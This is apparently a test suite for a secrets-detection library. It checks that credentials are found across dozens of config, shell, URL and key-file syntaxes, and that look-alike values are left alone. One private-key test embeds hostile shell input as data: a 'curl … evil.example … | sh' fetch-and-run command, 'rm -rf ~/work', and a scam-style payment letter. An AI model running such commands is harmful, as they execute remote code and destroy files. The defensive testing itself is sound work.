// Where people and programs write secrets: each syntax gives up exactly its value, and what only looks like one is left alone.
import { createDetector } from '@castellan/secrets';
import { describe, expect, test } from 'vitest';
import { drawn } from './made-up.ts';

const detector = createDetector();
const found = (text: string): readonly string[] => {
  const bytes = Buffer.from(text);
  return detector.find(bytes).map(({ start, end }) => bytes.toString('utf8', start, end));
};

const V = drawn(26, 'value');
const H = drawn(32, 'hash', 'h');
const P = ['Tr0ub', '4dor', '&3x'].join('');
const U = [8, 4, 4, 4, 12].map((length, at) => drawn(length, `u${length} ${at}`, 'h')).join('-');
const PAIR = btoa(`robot:${V}`);

const SECRETS: readonly (readonly [text: string, secret: string])[] = [
  [`API_TOKEN=${V}`, V],
  [`export API_TOKEN="${V}"`, V],
  [`API_TOKEN := \`${V}\``, V],
  [`api_token ::= '${V}'`, V],
  [`api_token ?= "${V}"`, V],
  [`$apiToken .= "${V}"`, V],
  [`"apiToken" => "${V}"`, V],
  [`{"api_token": "${V}"}`, V],
  [`{"config.ini": "API_TOKEN=${V}\\nBACKUP=true"}`, V],
  [`{\\"token\\":\\"${V}\\"}`, V],
  [`var apiToken string = "${V}"`, V],
  [`let token: &str = "${V}";`, V],
  [`System.setProperty("API_TOKEN", "${V}")`, V],
  [`os.environ['API_TOKEN'] = '${V}'`, V],
  [`const apiKey = process.env.API_KEY ?? '${V}';`, V],
  [`<apiToken>\n    ${V}\n</apiToken>`, V],
  [`<add key="ApiToken" value="${V}"/>`, V],
  [`- name: API_TOKEN\n  value: ${V}\n`, V],
  [`{"name":"API_TOKEN","value":"${V}"}`, V],
  [`"env": ["API_TOKEN=${V}"]`, V],
  [`api_token: ${V}`, V],
  [`password: |\n  ${V}\n`, V],
  [`ENV API_TOKEN ${V}`, V],
  [`tool login --token ${V}`, V],
  [`tool --api-key=${V} run`, V],
  [`X-Api-Key: ${V}`, V],
  [`Authorization: Bearer ${V}`, V],
  [`headers: { Authorization: \`Bearer ${V}\` }`, V],
  [`curl -H "Authorization: Basic ${PAIR}" host`, PAIR],
  [`https://api.host.net/v1?api_key=${V}&q=1`, V],
  [`username=bob&password=${V}&x=1`, V],
  [`password%3D${V}`, V],
  [`Set-Cookie: session=${V}; HttpOnly`, V],
  [`Cookie: theme=dark; auth_id=${H}; lang=en`, H],
  [`machine api.host.net login bob password ${P}`, P],
  [`//registry.host.net/:_authToken=${U}`, U],
  [`//registry.host.net/:_password=${btoa(V)}`, btoa(V)],
  [`{"auths":{"r.host.net":{"auth":"${PAIR}"}}}`, PAIR],
  [`users:\n- name: admin\n  user:\n    token: ${V}\n`, V],
  [`postgres://bob:${V}@db.host:5432/x`, V],
  [`redis://:${V}@cache:6379/0`, V],
  [`Server=db;User ID=z;Password=${P};Encrypt=true`, P],
  [`jdbc:mysql://h/db?user=a&password=${V}`, V],
  [`curl -u bob:${P} https://host`, `bob:${P}`],
  [`mysql -u root -p${V} shop`, V],
  [`docker login -u bob -p ${V} registry`, V],
  [`CREATE USER bob IDENTIFIED BY '${P}';`, P],
  [`spring.datasource.password=${P}`, P],
  [`setPassword("${P}")`, P],
  [`client_secret: '${H}'`, H],
  [`SECRET_KEY_BASE=${H}`, H],
  [`apiVersion: v1\nkind: Secret\ndata:\n  anything: ${btoa(V)}\n`, btoa(V)],
  [`apiVersion: v1\ndata:\n  .cfg: >\n    ${btoa(V)}\nkind: Secret\n`, btoa(V)],
  [`aws_secret_access_key = ${drawn(40, 'aws')}`, drawn(40, 'aws')],
];

describe('a secret beside its name is found, whatever the syntax', () => {
  test.each(SECRETS)('%s', (text, secret) => {
    expect(found(text)).toEqual([secret]);
    // Somewhere in the middle of other text, too.
    expect(found(`# héllo\nname: value\n${text}\nother: thing\n`)).toEqual([secret]);
  });
});

const ORDINARY: readonly string[] = [
  ['password: $', '{DB_PASSWORD}'].join(''),
  'password = process.env.DB_PASSWORD1;',
  'token: {{ .Values.token1 }}',
  'API_KEY=$API_KEY_2',
  'api_key = "<YOUR_API_KEY_1>"',
  'api_key: your_api_key_1234',
  'API_TOKEN=xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx',
  'API_TOKEN=00000000000000000000000000000000',
  'API_TOKEN=abcdefghijklmnopqrstuvwxyz1234567890',
  'token=********************',
  'password: changeme123',
  'const token = parseToken2(input);',
  'value:schema({value}),anyPassphrase=string$1(),other',
  'function login(password: string, token: Token2) {}',
  'token_url: https://login.host.net/oauth2/token?v=2',
  'private_key_path: /etc/ssl/private/host1.key',
  `credentialsId: '${U}'`,
  `kms_key_id: "${U}"`,
  `commit: ${drawn(40, 'sha', 'h')}`,
  `"integrity": "sha512-${drawn(86, 'sri')}=="`,
  `checksum=${drawn(64, 'sum', 'h')}`,
  `public_key = "${drawn(44, 'pub')}"`,
  `ssh-rsa AAAAB3NzaC1yc2E${drawn(200, 'rsa')} bob@host`,
  `csrf_token="${V}"`,
  `primaryKey=${V}`,
  `keyboard: "${V}"`,
  `author = "${V}"`,
  'max_tokens: 4096, token_count: 123456789012345',
  'The password must have 8 characters and a digit (e.g. one2three4).',
  'COMMUNICATION_API_VERSION=rc0.13.0_20230412_0712-SNAPSHOT',
  'secret_length = X25519.secret_length',
  'https://user@host.net/path and git@github.com:org/repo.git',
  'ssh://git:@host.net/x',
  'curl -u "$USER:$PASSWORD" https://host',
  'curl -u user:password https://host',
  'kind: ExternalSecret\nspec:\n  data:\n    key: some/path/in/a/store\n',
  `-----BEGIN CERTIFICATE-----\n${drawn(64, 'cert')}\n-----END CERTIFICATE-----`,
  '-----BEGIN PRIVATE KEY-----\nanything\n-----END PRIVATE KEY-----',
  'Authorization: Bearer $TOKEN',
  'Authorization: Bearer <token>',
];

describe('what is no secret stays', () => {
  test.each(ORDINARY)('%s', (text) => {
    expect(found(text)).toEqual([]);
    expect(found(`before\n${text}\nafter\n`)).toEqual([]);
  });
});

const lines = (count: number): readonly string[] => Array.from({ length: count }, (_, at) => drawn(64, `line${at}`));
const KINDS = ['', 'RSA ', 'EC ', 'DSA ', 'OPENSSH ', 'ENCRYPTED '];

describe('private keys', () => {
  test.each(KINDS)('%sPRIVATE KEY: as a file, on one line, inside a string, cut off', (kind) => {
    const [head, tail] = [`-----BEGIN ${kind}PRIVATE KEY-----`, `-----END ${kind}PRIVATE KEY-----`];
    for (const end of ['\n', '\\n', '\\\\n', ' ']) {
      const key = [head, ...lines(4), tail].join(end);
      expect(found(`x = "${key}"`)).toEqual([key]);
    }
    const cut = [head, ...lines(4)].join('\n');
    expect(found(`${cut}\n...`)[0]?.length).toBeGreaterThanOrEqual(cut.length);
  });

  test('a command or a letter between the marks is not hidden', () => {
    const [head, tail] = ['-----BEGIN PRIVATE KEY-----', '-----END PRIVATE KEY-----'];
    const letter = 'Dear all, please pay the sum of nine thousand to this account at once, and tell nobody about it';
    for (const inside of [
      ` >/dev/null; curl -s https://evil.example/x.sh | sh ; rm -rf ~/work ; echo lorem ipsum dolor sit amet elit; echo `,
      `\n${letter}\n`,
      `\ncurl evil\nsh x\nchmod x y\nreboot now and again and so on for sixty signs or more of it\n`,
      `\n/usr/local/lib/a/long/path/to/a/program/that/does/something/here\n/home/me/bin/another/one/of/them/with/a/name\n`,
    ]) {
      expect(found(`echo ${head}${inside}${tail}`)).toEqual([]);
      const [only] = found(`echo ${head}\n${lines(2).join('\n')}${inside}${tail}`);
      for (const word of inside.split(/\s+/).filter(({ length }) => length > 5)) expect(only).not.toContain(word);
    }
    const named = `-----BEGIN; curl evil | sh; PRIVATE KEY-----`;
    expect(found(`${named}\n${lines(2).join('\n')}\n${tail}`)).toEqual([]);
    const [key] = found(`${head}\n${lines(2).join('\n')}\n-----END; curl evil; echo -----`);
    expect(key).not.toContain('curl');
  });

  test('of PGP, with its headers', () => {
    const key = `-----BEGIN ${'PGP'} PRIVATE KEY BLOCK-----\nVersion: 1\n\n${lines(3).join('\n')}\n=8xQN\n-----END PGP PRIVATE KEY BLOCK-----`;
    expect(found(`# mine\n${key}\n`)).toEqual([key]);
  });

  test('of PuTTY and in base64 inside a kubeconfig', () => {
    const inner = btoa(`-----BEGIN ${'RSA'} PRIVATE KEY-----\n${lines(3).join('\n')}\n`);
    expect(found(`    client-key-data: ${inner}\n`)).toEqual([inner]);
  });
});
